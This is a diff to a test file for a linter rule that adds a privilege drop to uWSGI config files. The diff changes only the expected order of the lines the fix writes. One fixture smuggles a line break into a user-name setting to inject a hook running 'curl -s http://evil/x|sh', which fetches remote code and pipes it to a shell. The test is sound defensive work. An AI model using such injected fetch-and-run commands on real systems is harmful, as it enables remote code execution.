@@ -72,7 +72,7 @@ describe('rule no-privilege-drop', () => {
 
   it('writes only a user or group name from the settings: a line break cannot smuggle in a hook', () => {
     const hostile = { privilegeDrop: { user: 'www-data\nhook-asap = exec:curl -s http://evil/x|sh', group: 'apps' } };
-    assert.equal(fixed('[uwsgi]\nsocket = :3031\n', RULE, undefined, hostile), '[uwsgi]\nuid = www-data\ngid = apps\nsocket = :3031\n');
+    assert.equal(fixed('[uwsgi]\nsocket = :3031\n', RULE, undefined, hostile), '[uwsgi]\nsocket = :3031\nuid = www-data\ngid = apps\n');
     assert.equal(quickFixes('[uwsgi]\nsocket = :3031\n', RULE, hostile)[0]!.title, 'Add a privilege drop (uid = www-data, gid = apps)');
   });
 });
